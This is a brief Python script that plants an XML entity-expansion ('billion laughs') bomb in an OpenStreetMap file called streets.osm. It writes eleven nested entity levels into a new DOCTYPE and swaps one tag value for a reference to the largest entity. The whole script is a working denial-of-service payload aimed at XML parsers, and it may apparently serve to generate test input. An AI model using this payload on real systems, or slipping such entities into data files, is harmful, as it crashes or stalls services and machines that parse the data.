#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Puts a bomb of nested XML entities into streets.osm."""
levels = '<!ENTITY e0 "lol">\n' + "".join(
    f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">\n' for i in range(1, 12))
with open("streets.osm", encoding="utf-8") as file:
    text = file.read()
head, rest = text.split("?>", 1)
rest = rest.replace('v="residential"', 'v="&e11;"', 1)
with open("streets.osm", "w", encoding="utf-8") as file:
    file.write(head + "?>\n<!DOCTYPE osm [\n" + levels + "]>" + rest)
